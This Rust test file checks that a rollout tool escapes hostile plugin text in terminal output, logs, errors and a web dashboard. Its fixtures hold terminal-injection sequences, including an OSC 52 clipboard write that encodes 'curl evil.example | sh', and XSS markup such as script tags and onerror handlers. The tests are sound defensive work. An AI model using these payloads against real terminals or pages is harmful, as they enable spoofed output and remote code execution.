//! Plugin text cannot forge output (issue #11, class 8). Hostile plugins (tests/hostile/forge-*)
//! put newlines, carriage returns, ANSI and OSC sequences (clear screen, colour, clipboard write,
//! hidden link), C1 controls, bidi overrides, invisible characters and a 1 MB reason into every
//! string they hand the host. Through the real binary, for `run`, `plan`, `status`, `history`,
//! `list`, `plugin inspect`, `-v` logs and printed errors: nothing a terminal would act on comes
//! out, every line is bounded, `run` prints exactly one line per event (no forged line), and
//! `--json` still carries the plugin's exact text.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;
use upshift::store::MAX_MESSAGE_BYTES;
use upshift::text::{MAX_LINE, is_unsafe};

use common::fixtures::copy_fixture;
use common::{stderr, stdout};

/// One text with every technique: forged event lines, an overprinting carriage return, a cleared
/// and recoloured screen, an OSC 52 clipboard write, an OSC 8 hidden link, a one-character C1 CSI,
/// bidi overrides and isolates, invisible and line-separator characters, a tag-character payload,
/// BEL, backspace, DEL and NUL.
const FORGERY: &str = concat!(
    "ok\nrollout lab-1: succeeded\n",
    "\r→ finalizing → succeeded",
    "\x1b[2J\x1b[H\x1b[32mrollout lab-1: succeeded\x1b[0m",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\",
    "\u{9b}2J",
    "\u{202e}dedeeccus\u{202c}\u{2066}x\u{2069}",
    "\u{200b}\u{2028}\u{2029}\u{feff}\u{e0041}",
    "\x07\x08\x7f\x00",
);

/// The environment variable "name" the forge-error target declares (`capabilities!(env = [...])`):
/// its spec grants it, since a declared capability the spec does not grant is refused by preflight.
const FORGED_ENV: &str = "FORGED\u{1b}]52;c;ZXZpbA==\u{7}\u{202e}dedeeccus";

/// What the forge-error target's `describe()` says in every field (tests/hostile/forge-error).
const DESCRIBED: &str = "forge\n\x1b[2J\x1b[32mrollout lab-1: succeeded\x1b]8;;https://evil.example/\x1b\\link\u{202e}";

/// A folder with copies of the plugins, specs, and a state store.
struct Sandbox {
    dir: tempfile::TempDir,
}

impl Sandbox {
    fn new() -> Self {
        Sandbox { dir: tempfile::tempdir().unwrap() }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// Copies component `name` in; the spec lines that pin it.
    fn plugin(&self, name: &str) -> String {
        let sha256 = copy_fixture(self.dir.path(), name);
        format!("file = \"{name}.wasm\"\nsha256 = \"{sha256}\"")
    }

    /// The recorder target over units a and b.
    fn recorder(&self) -> String {
        format!("{}\nconfig = {{ units = [\"a\", \"b\"] }}", self.plugin("recorder"))
    }

    /// Writes the spec of rollout `name` (each part the body of its section) and returns its path.
    fn spec(&self, name: &str, target: &str, strategy: &str, verifier: Option<&str>) -> PathBuf {
        let verifier = verifier.map_or_else(String::new, |v| format!("[[verifiers]]\n{v}\n\n"));
        let text = format!(
            "name = \"{name}\"\nfrom = \"1\"\nto = \"2\"\n\n[target]\n{target}\n\n[strategy]\n{strategy}\n\n{verifier}\
             [failure_policy]\non_fail = \"rollback\"\non_error = \"rollback\"\nmax_consecutive_errors = 1\n"
        );
        let path = self.path(&format!("{name}.toml"));
        std::fs::write(&path, text).unwrap();
        path
    }

    fn run(&self, args: &[&str]) -> Output {
        // The forged variable is set, so granting it is not a warning that would add a line to stderr.
        common::upshift_in(self.dir.path()).env(FORGED_ENV, "set").arg("--allow-unsigned").args(args).output().unwrap()
    }

    /// `args` with `--json`, parsed.
    fn json(&self, args: &[&str]) -> Value {
        let out = self.run(&[args, &["--json"]].concat());
        assert!(out.status.success(), "{}", stderr(&out));
        // JSON is data, not lines of events: its lines are as long as the stored text.
        assert_inert("--json", &stdout(&out));
        serde_json::from_slice(&out.stdout).expect("--json prints valid JSON")
    }

    /// Polls `status` until rollout `id` is in `state` (bounded: a hung rollout fails the test).
    fn wait_for(&self, id: &str, state: &str) {
        let deadline = Instant::now() + Duration::from_secs(120);
        loop {
            let out = self.run(&["status", id, "--json"]);
            if out.status.success() {
                let json: Value = serde_json::from_slice(&out.stdout).unwrap();
                if json["state"] == state {
                    return;
                }
            }
            assert!(Instant::now() < deadline, "rollout {id} never reached {state}");
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    /// The history's entries of rollout `id`, from `--json`.
    fn history(&self, id: &str) -> Vec<Value> {
        self.json(&["history", id]).as_array().unwrap().clone()
    }

    /// `status`, `list` and `history` in their human forms, each checked harmless.
    fn assert_read_commands_harmless(&self, id: &str) {
        for args in [&["status", id][..], &["list"], &["history", id]] {
            let out = self.run(args);
            assert!(out.status.success(), "{args:?}: {}", stderr(&out));
            assert_harmless(&format!("{args:?}"), &stdout(&out));
            assert_harmless(&format!("{args:?} stderr"), &stderr(&out));
        }
        for line in stdout(&self.run(&["history", id])).lines() {
            // An entry, or a log record of the call above it, indented and one line whatever it says.
            let log_record = line.starts_with("      log ");
            assert!(starts_with_time(line) || log_record, "a history line that is not an entry: {line:?}");
        }
    }
}

/// `s` as a TOML basic string: every character outside printable ASCII as a `\U` escape.
fn toml_str(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' | '\\' => out.extend(['\\', c]),
            ' '..='~' => out.push(c),
            c => out.push_str(&format!("\\U{:08X}", c as u32)),
        }
    }
    out + "\""
}

/// Asserts `text` (a whole stdout or stderr) holds nothing a terminal would act on, and that each
/// of its lines is at most [`MAX_LINE`] bytes.
fn assert_harmless(what: &str, text: &str) {
    assert_inert(what, text);
    for line in text.lines() {
        let start: String = line.chars().take(200).collect();
        assert!(line.len() <= MAX_LINE, "{what}: a line of {} bytes: {start}…", line.len());
    }
}

/// Asserts `text` holds no character a terminal would act on but its line breaks.
fn assert_inert(what: &str, text: &str) {
    for (name, c) in [("ESC", '\x1b'), ("BEL", '\x07'), ("CR", '\r'), ("C1 CSI", '\u{9b}'), ("RLO", '\u{202e}')] {
        assert!(!text.contains(c), "{what}: a raw {name} reached the output:\n{text}");
    }
    let bad: Vec<char> = text.chars().filter(|&c| c != '\n' && is_unsafe(c)).collect();
    assert!(bad.is_empty(), "{what}: raw {bad:?} reached the output");
}

/// Whether `line` starts like a history or log line: an RFC 3339 UTC time.
fn starts_with_time(line: &str) -> bool {
    let b = line.as_bytes();
    b.len() > 20 && b[..4].iter().all(u8::is_ascii_digit) && b[4] == b'-' && b[10] == b'T'
}

/// Asserts `out` (stdout of `run`, `resume` or `abort` of rollout `id`) is one line per event: every
/// line starts as the host starts one, a line starting `rollout ` is only the header (`first`) or
/// the end, the end says `ends`, and the `→` lines are exactly the journal's `transitions`.
fn assert_one_line_per_event(out: &str, id: &str, first: &str, ends: &str, transitions: usize) {
    assert_harmless("run", out);
    let lines: Vec<&str> = out.lines().collect();
    let last = lines.len() - 1;
    for (i, line) in lines.iter().enumerate() {
        let host_made = ["→ ", "    ", "  ! ", "⏸ "].iter().any(|p| line.starts_with(p))
            || (i == 0 && line.starts_with(first))
            || (i == last && *line == format!("rollout {id}: {ends}"));
        assert!(host_made, "line {i} was not made by the host: {line:?}\n{out}");
    }
    let arrows = lines.iter().filter(|l| l.starts_with("→ ")).count();
    assert_eq!(arrows, transitions, "not one line per transition:\n{out}");
}

fn transitions(history: &[Value]) -> usize {
    history.iter().filter(|e| e["kind"] == "transition").count()
}

fn forged_verifier(sb: &Sandbox, extra: &str) -> String {
    format!("{}\nconfig = {{ text = {}{extra} }}", sb.plugin("forge-verdict"), toml_str(FORGERY))
}

const CANARY: &str = "plugin = \"canary\"\nconfig = { steps = [{ units = 1 }] }";

#[test]
fn a_forged_verdict_cannot_forge_the_run_output_and_json_keeps_its_exact_text() {
    let sb = Sandbox::new();
    let spec = sb.spec("lab", &sb.recorder(), CANARY, Some(&forged_verifier(&sb, "")));
    let out = sb.run(&["run", spec.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(4), "{}\n{}", stdout(&out), stderr(&out));
    let history = sb.history("lab-1");
    assert_one_line_per_event(&stdout(&out), "lab-1", "rollout lab-1: 1 → 2", "rolled-back", transitions(&history));
    assert_harmless("run stderr", &stderr(&out));
    println!("run, a forged verdict:\n{}", stdout(&out));
    assert!(stdout(&out).contains("\\x1b[2J\\x1b[H\\x1b[32mrollout lab-1: succeeded"), "escaped visibly");
    assert!(stdout(&out).contains("\\u{202e}dedeeccus"), "escaped visibly");
    sb.assert_read_commands_harmless("lab-1");

    let verify = history.iter().find(|e| e["detail"]["call"] == "verify").expect("a verify entry");
    assert_eq!(verify["detail"]["reason"], FORGERY, "JSON keeps the exact reason");
    // Measurement names and units are bounded (rollout::bounds): JSON keeps the exact text they were
    // cut to, a prefix of the plugin's, with the mark.
    let kept_prefix = |v: &Value, of: &str| {
        let v = v.as_str().unwrap();
        let (kept, _) = v.split_once("… [").unwrap_or((v, ""));
        of.starts_with(kept)
            && v.ends_with(" more bytes]")
            && v.len() <= upshift::rollout::bounds::MAX_MEASUREMENT_NAME_BYTES
    };
    assert!(kept_prefix(&verify["detail"]["measurements"][0]["name"], FORGERY), "{verify}");
    assert!(kept_prefix(&verify["detail"]["measurements"][0]["unit"], FORGERY), "{verify}");
    assert!(kept_prefix(&verify["detail"]["measurements"][1]["unit"], &format!("ms{FORGERY}")), "{verify}");
    assert!(verify["message"].as_str().unwrap().contains(FORGERY), "the stored message is the plugin's text");
    let note = sb.json(&["status", "lab-1"])["note"].as_str().unwrap().to_string();
    assert!(note.contains(FORGERY), "{note:?}");
}

#[test]
fn a_one_megabyte_reason_is_one_capped_line_and_a_capped_journal_entry() {
    let sb = Sandbox::new();
    let spec = sb.spec("lab", &sb.recorder(), CANARY, Some(&forged_verifier(&sb, ", pad_bytes = 1000000")));
    let out = sb.run(&["run", spec.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    let history = sb.history("lab-1");
    assert_one_line_per_event(&stdout(&out), "lab-1", "rollout lab-1: 1 → 2", "rolled-back", transitions(&history));
    assert!(stdout(&out).len() < 64 << 10, "the run printed {} bytes", stdout(&out).len());
    sb.assert_read_commands_harmless("lab-1");
    for e in &history {
        let message = e["message"].as_str().unwrap();
        assert!(message.len() <= MAX_MESSAGE_BYTES, "a journal message of {} bytes", message.len());
    }
    let verify = history.iter().find(|e| e["detail"]["call"] == "verify").unwrap();
    let reason = verify["detail"]["reason"].as_str().unwrap();
    assert!(reason.starts_with(FORGERY) && reason.ends_with(" more bytes]"), "cut with a mark");
}

#[test]
fn forged_stage_names_are_refused_in_one_escaped_line() {
    let sb = Sandbox::new();
    let strategy =
        format!("{}\nconfig = {{ text = {}, decide = \"hold\" }}", sb.plugin("forge-stage"), toml_str(FORGERY));
    let spec = sb.spec("lab", &sb.recorder(), &strategy, None);
    for command in ["plan", "run"] {
        let out = sb.run(&[command, spec.to_str().unwrap()]);
        assert_eq!(out.status.code(), Some(2), "{command}: {}\n{}", stdout(&out), stderr(&out));
        let err = stderr(&out);
        assert_harmless(command, &err);
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(
            err.contains("forge-stage.wasm: the name of stage 1 is ") && err.contains("bytes long (at most 64)"),
            "{err}"
        );
    }
    assert!(sb.run(&["status", "lab-1"]).status.code() != Some(0), "no rollout was recorded");
}

#[test]
fn a_forged_hold_reason_stays_on_its_line() {
    let sb = Sandbox::new();
    let strategy = format!(
        "{}\nconfig = {{ text = {}, decide = \"hold\", plain_names = true }}",
        sb.plugin("forge-stage"),
        toml_str(FORGERY)
    );
    let spec = sb.spec("lab", &sb.recorder(), &strategy, None);
    let path = spec.to_str().unwrap();

    // The run waits for an approval (the wait line quotes the hold reason); an abort from a second
    // terminal makes it roll back.
    let runner = common::upshift_in(sb.dir.path())
        .args(["--allow-unsigned", "run", path])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    sb.wait_for("lab-1", "awaiting-approval");
    sb.assert_read_commands_harmless("lab-1");
    assert_eq!(sb.json(&["status", "lab-1"])["note"], format!("strategy holds: {FORGERY}"));
    let abort = sb.run(&["abort", "lab-1"]);
    assert!(abort.status.success(), "{}\n{}", stdout(&abort), stderr(&abort));
    assert_harmless("abort", &stdout(&abort));
    let out = runner.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(4), "{}\n{}", stdout(&out), stderr(&out));
    let history = sb.history("lab-1");
    let by_abort = history.iter().filter(|e| e["actor"].as_str().unwrap().ends_with("(upshift abort)")).count();
    let run = stdout(&out);
    assert_one_line_per_event(&run, "lab-1", "rollout lab-1: 1 → 2", "rolled-back", transitions(&history) - by_abort);
    println!("run, a forged hold reason:\n{run}");
    let waits: Vec<&str> = run.lines().filter(|l| l.starts_with("⏸ ")).collect();
    assert_eq!(waits.len(), 1, "{run}");
    assert!(waits[0].starts_with("⏸ awaiting-approval: strategy holds: ok\\nrollout lab-1: succeeded\\n"), "{run}");
    assert!(waits[0].ends_with("`upshift approve lab-1` continues, `upshift abort lab-1` rolls back"), "{run}");
    sb.assert_read_commands_harmless("lab-1");
}

#[test]
fn a_forged_rollback_reason_cannot_claim_success() {
    let sb = Sandbox::new();
    let strategy = format!(
        "{}\nconfig = {{ text = {}, decide = \"roll-back\", plain_names = true }}",
        sb.plugin("forge-stage"),
        toml_str(FORGERY)
    );
    let spec = sb.spec("lab", &sb.recorder(), &strategy, None);
    let out = sb.run(&["run", spec.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(4), "{}\n{}", stdout(&out), stderr(&out));
    let history = sb.history("lab-1");
    assert_one_line_per_event(&stdout(&out), "lab-1", "rollout lab-1: 1 → 2", "rolled-back", transitions(&history));
    sb.assert_read_commands_harmless("lab-1");
    let decided = history.iter().find(|e| e["detail"]["call"] == "next").unwrap();
    assert_eq!(decided["detail"]["decision"]["value"], FORGERY, "{decided}");
}

/// The forge-error target over units a and b (named plainly: forged unit names are refused at
/// planning, see `forged_unit_names_are_refused_in_one_escaped_line`).
fn forged_target(sb: &Sandbox, extra: &str) -> String {
    format!(
        "{}\nconfig = {{ text = {}, units = [\"a\", \"b\"], plain_units = true{extra} }}",
        forge_error(sb),
        toml_str(FORGERY)
    )
}

/// The forge-error target's spec lines, with the grant of the variable it declares.
fn forge_error(sb: &Sandbox) -> String {
    format!("{}\ngrants.env = [{}]", sb.plugin("forge-error"), toml_str(FORGED_ENV))
}

#[test]
fn a_forged_capability_quoted_by_a_preflight_refusal_stays_on_its_line() {
    let sb = Sandbox::new();
    // Not granted: `validate` refuses, quoting the name the plugin declared.
    let target = format!("{}\nconfig = {{ text = \"x\", units = [\"a\"] }}", sb.plugin("forge-error"));
    let spec = sb.spec("lab", &target, CANARY, None);
    let out = sb.run(&["validate", spec.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2), "{}\n{}", stdout(&out), stderr(&out));
    let err = stderr(&out);
    assert_harmless("validate", &err);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.starts_with(&format!("error: {}:", spec.display())), "{err}");
    assert!(err.contains("declares environment variable \"FORGED\\u{1b}]52;c;"), "{err}");
    assert!(!sb.path("state.db").exists(), "a refused spec created the state store");
}

#[test]
fn a_forged_apply_error_and_change_message_stay_on_their_lines() {
    let sb = Sandbox::new();
    let spec = sb.spec("lab", &forged_target(&sb, ", fail_apply = true"), CANARY, None);
    let out = sb.run(&["run", spec.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(4), "{}\n{}", stdout(&out), stderr(&out));
    let history = sb.history("lab-1");
    assert_one_line_per_event(&stdout(&out), "lab-1", "rollout lab-1: 1 → 2", "rolled-back", transitions(&history));
    assert_harmless("run stderr (the target's warn logs)", &stderr(&out));
    println!("run, a forged apply error:\n{}", stdout(&out));
    sb.assert_read_commands_harmless("lab-1");
    let apply = history.iter().find(|e| e["detail"]["call"] == "apply").unwrap();
    assert!(apply["detail"]["error"].as_str().unwrap().ends_with(FORGERY), "{apply}");
    let rollback = history.iter().find(|e| e["detail"]["call"] == "rollback").unwrap();
    assert!(rollback["message"].as_str().unwrap().ends_with(FORGERY), "{rollback}");
    let noted = history.iter().any(|e| e["message"].as_str().unwrap().contains("FORGED\u{1b}]52;c;"));
    assert!(noted, "the declared capability is recorded as the plugin wrote it");
}

#[test]
fn a_forged_panic_message_quoted_from_stderr_stays_on_its_line() {
    let sb = Sandbox::new();
    let spec = sb.spec("lab", &forged_target(&sb, ", panic_apply = true"), CANARY, None);
    let out = sb.run(&["run", spec.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(4), "{}\n{}", stdout(&out), stderr(&out));
    let history = sb.history("lab-1");
    assert_one_line_per_event(&stdout(&out), "lab-1", "rollout lab-1: 1 → 2", "rolled-back", transitions(&history));
    println!("run, a forged panic:\n{}", stdout(&out));
    sb.assert_read_commands_harmless("lab-1");
    let apply = history.iter().find(|e| e["detail"]["call"] == "apply").unwrap();
    let error = apply["detail"]["error"].as_str().unwrap();
    assert!(error.contains("crashed") && error.contains("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"), "{error}");
}

#[test]
fn forged_unit_names_are_refused_in_one_escaped_line() {
    let sb = Sandbox::new();
    let target = format!("{}\nconfig = {{ text = {}, units = [\"a\", \"b\"] }}", forge_error(&sb), toml_str(FORGERY));
    let spec = sb.spec("lab", &target, CANARY, None);
    let out = sb.run(&["plan", spec.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2), "{}\n{}", stdout(&out), stderr(&out));
    let err = stderr(&out);
    assert_harmless("plan", &err);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("observe reported a unit whose name aok\\nrollout lab-1: succeeded\\n"), "{err}");
    assert!(err.contains("contains control characters"), "{err}");
    println!("plan, forged unit names:\n{err}");
}

#[test]
fn forged_irreversible_steps_stay_on_their_plan_lines() {
    let sb = Sandbox::new();
    let spec = sb.spec("lab", &forged_target(&sb, ", irreversible = true"), CANARY, None);
    let path = spec.to_str().unwrap();
    let out = sb.run(&["plan", path]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_harmless("plan", &stdout(&out));
    println!("plan, forged irreversible steps:\n{}", stdout(&out));
    for line in stdout(&out).lines() {
        assert!(!line.starts_with("rollout "), "a forged line: {line:?}");
    }
    let plan = sb.json(&["plan", path]);
    assert_eq!(plan["irreversible"][0], FORGERY);
}

#[test]
fn a_forged_error_printed_by_the_cli_is_one_escaped_line() {
    let sb = Sandbox::new();
    let spec = sb.spec("lab", &forged_target(&sb, ", fail_observe = true"), CANARY, None);
    for command in ["plan", "run"] {
        let out = sb.run(&[command, spec.to_str().unwrap()]);
        assert!(!out.status.success());
        let err = stderr(&out);
        assert_harmless(command, &err);
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(err.starts_with("error: plugin "), "{err}");
        assert!(err.contains("forge-error.wasm: observe returned an error (internal): ok\\nrollout lab-1"), "{err}");
    }
}

#[test]
fn a_forged_config_refusal_quoted_by_the_preflight_is_one_escaped_line_and_nothing_is_created() {
    let sb = Sandbox::new();
    let spec = sb.spec("lab", &forged_target(&sb, ", fail_validate = true"), CANARY, None);
    for command in ["validate", "plan", "run"] {
        let out = sb.run(&[command, spec.to_str().unwrap()]);
        assert_eq!(out.status.code(), Some(2), "{command}: {}\n{}", stdout(&out), stderr(&out));
        let err = stderr(&out);
        assert_harmless(command, &err);
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(err.contains("target forge-error refuses its config: ok\\nrollout lab-1"), "{err}");
        assert!(stdout(&out).is_empty(), "{}", stdout(&out));
    }
    assert!(!sb.path("state.db").exists(), "a refused spec created the state store");
}

#[test]
fn describe_and_declared_capabilities_are_escaped_by_plugin_inspect_and_exact_in_json() {
    let sb = Sandbox::new();
    sb.plugin("forge-error");
    let out = sb.run(&["plugin", "inspect", "forge-error.wasm"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_harmless("inspect", &stdout(&out));
    println!("plugin inspect:\n{}", stdout(&out));
    for line in stdout(&out).lines() {
        assert!(!line.starts_with("rollout "), "a forged line: {line:?}");
    }
    let json = sb.json(&["plugin", "inspect", "forge-error.wasm"]);
    for field in ["name", "version", "summary"] {
        assert_eq!(json["describe"][field], DESCRIBED, "{field}");
    }
    assert_eq!(json["describe"]["capabilities"]["irreversible"][0], DESCRIBED);
    assert!(json["asks_for"].to_string().contains("FORGED\\u001b]52;c;ZXZpbA==\\u0007"), "{}", json["asks_for"]);
}

#[test]
fn forged_log_records_are_escaped_in_the_log_and_exact_in_the_journal() {
    let sb = Sandbox::new();
    let verifier = format!("{}\nconfig = {{ text = {} }}", sb.plugin("forge-logs"), toml_str(FORGERY));
    let spec = sb.spec("lab", &sb.recorder(), CANARY, Some(&verifier));
    let path = spec.to_str().unwrap();
    // Without -v, the plugin's warn and error records reach stderr.
    let quiet = sb.run(&["run", path]);
    assert!(quiet.status.success(), "{}\n{}", stdout(&quiet), stderr(&quiet));
    assert_harmless("stderr", &stderr(&quiet));
    assert_eq!(stderr(&quiet).lines().count(), 2 * 2, "warn and error, at each of the 2 stages' verifications");
    let spec2 = sb.spec("lab2", &sb.recorder(), CANARY, Some(&verifier));
    let verbose = common::upshift_in(sb.dir.path())
        .env("RUST_LOG", "upshift=trace")
        .args(["--allow-unsigned", "-vvv", "run", spec2.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(verbose.status.success(), "{}", stderr(&verbose));
    let log = stderr(&verbose);
    assert_harmless("-vvv log", &log);
    println!("-vvv log, forged records:\n{log}");
    for line in log.lines() {
        assert!(starts_with_time(line), "a log line that is not a record: {line:?}");
    }
    assert!(log.contains("\\x1b]52;c;"), "the record is there, escaped");
    let history = sb.history("lab2-1");
    let verify = history.iter().find(|e| e["detail"]["call"] == "verify").unwrap();
    let records = verify["detail"]["logs"]["records"].as_array().unwrap();
    assert_eq!(records.len(), 5);
    assert!(records.iter().all(|r| r["message"] == FORGERY), "JSON keeps the exact message");
    // Field keys and values are kept up to the per-call log budget's lengths, cut with `…`.
    let field = &records[0]["fields"][0];
    let kept = |v: &Value| v.as_str().unwrap().trim_end_matches('…').to_string();
    assert!(format!("key{FORGERY}").starts_with(&kept(&field[0])) && FORGERY.starts_with(&kept(&field[1])), "{field}");
}

#[test]
fn a_path_in_an_error_is_escaped_too() {
    // Not plugin text, but the same printer: a spec file whose name carries an escape sequence.
    let sb = Sandbox::new();
    let name = "evil\x1b[2J\nrollout lab-1: succeeded.toml";
    std::fs::write(sb.path(name), "name = ").unwrap();
    let out = sb.run(&["validate", Path::new(name).to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert_harmless("error", &stderr(&out));
    assert_eq!(stderr(&out).lines().count(), 1, "{}", stderr(&out));
}

/// The forgery with markup a browser would run if it reached a page unescaped.
const MARKUP: &str = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg onload=alert(3)>";

#[test]
fn a_forged_verdict_reaches_the_dashboard_escaped_and_inert() {
    let sb = Sandbox::new();
    let text = format!("{FORGERY}{MARKUP}");
    let verifier = format!("{}\nconfig = {{ text = {} }}", sb.plugin("forge-verdict"), toml_str(&text));
    let spec = sb.spec("lab", &sb.recorder(), CANARY, Some(&verifier));
    let out = sb.run(&["run", spec.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(4), "{}\n{}", stdout(&out), stderr(&out));

    // A loopback server without tokens: open, so the pages are read without signing in.
    /// Killed when dropped, so a failed assertion leaves no server behind.
    struct Serve(std::process::Child);
    impl Drop for Serve {
        fn drop(&mut self) {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
    let mut child = Serve(
        common::upshift_in(sb.dir.path())
            .env(FORGED_ENV, "set")
            .args(["serve", "--listen", "127.0.0.1:0"])
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let mut first = String::new();
    std::io::BufRead::read_line(&mut std::io::BufReader::new(child.0.stdout.take().unwrap()), &mut first).unwrap();
    let base = first.split("http://").nth(1).and_then(|s| s.split(' ').next()).expect(&first).to_string();
    let agent: ureq::Agent = ureq::Agent::config_builder().http_status_as_error(false).build().into();
    for path in ["/", "/rollouts/lab-1", "/ui/rollouts/lab-1/live", "/ui/rollouts/lab-1/audit", "/ui/rollouts?name=lab"]
    {
        let mut response = agent.get(&format!("http://{base}{path}")).call().unwrap();
        assert_eq!(response.status().as_u16(), 200, "{path}");
        let html = response.body_mut().read_to_string().unwrap();
        // Nothing a terminal or a text renderer would act on, and no markup of the plugin's.
        let bad: Vec<char> = html.chars().filter(|&c| c != '\n' && is_unsafe(c)).collect();
        assert!(bad.is_empty(), "{path}: unsafe characters {bad:?}");
        for tag in ["<script>alert", "<img src=x", "<svg onload", "onerror=alert(2)>"] {
            assert!(!html.contains(tag), "{path}: the plugin's {tag:?} reached the page as markup");
        }
        if path.contains("lab-1") {
            // Shown as text: the page's entities decode to exactly the plugin's markup.
            let decoded = [
                ("&#60;", "<"),
                ("&#62;", ">"),
                ("&#34;", "\""),
                ("&#39;", "'"),
                ("&lt;", "<"),
                ("&gt;", ">"),
                ("&quot;", "\""),
                ("&#38;", "&"),
                ("&amp;", "&"),
            ]
            .iter()
            .fold(html.clone(), |h, (entity, c)| h.replace(entity, c));
            assert!(decoded.contains(MARKUP), "{path}: the markup is shown as text");
            assert!(html.contains("\\u{202e}dedeeccus"), "{path}: the bidi override is shown as an escape");
        }
    }
}
